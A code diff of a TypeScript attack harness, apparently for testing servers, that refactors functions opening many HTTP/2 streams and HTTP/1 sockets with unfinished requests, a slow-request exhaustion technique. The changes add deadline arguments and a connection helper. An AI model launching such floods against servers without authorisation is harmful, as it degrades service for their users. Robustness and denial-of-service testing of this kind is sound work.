@@ -1,7 +1,6 @@
 import net from "node:net";
-import { once } from "node:events";
 import { headerBlock, headers, requestFields } from "../h2-frames.js";
-import { H2Conn } from "../h2-conn.js";
+import { connected, H2Conn } from "../h2-conn.js";
 import { envelope } from "../protocols.js";
 import { pool } from "../clients.js";
 import { attackerAddress, sleepUntil, type Attack, type AttackContext } from "../attack.js";
@@ -59,7 +58,7 @@ export function unfinishedH2(s: Shape): Attack {
             32,
             async () => {
               const id = conn.newStream();
-              if ((await conn.write(headers(id, block))) && (await conn.sendData(id, body))) sent++;
+              if ((await conn.write(headers(id, block), until)) && (await conn.sendData(id, body, until))) sent++;
             },
             until,
           );
@@ -112,7 +111,7 @@ export function unfinishedH1(auth: boolean): Attack {
           socket.once("close", () => closed++);
           open.push(socket);
           try {
-            await Promise.race([once(socket, "connect"), once(socket, "close").then(() => Promise.reject(new Error("closed")))]);
+            await connected(socket);
             socket.write(Buffer.concat([head, body]));
           } catch {
             refused++;
@@ -147,10 +146,10 @@ export const bigUnfinished: Attack = {
     const sending = Promise.all(
       Array.from({ length: streams }, async () => {
         const id = conn.newStream();
-        if ((await conn.write(headers(id, block))) && (await conn.sendData(id, body))) complete++;
+        if ((await conn.write(headers(id, block), until)) && (await conn.sendData(id, body, until))) complete++;
       }),
     );
-    await Promise.race([sending, sleepUntil(until)]);
+    await sending;
     await sleepUntil(until);
     const { answered, reset } = conn.seen;
     const closed = conn.closed;
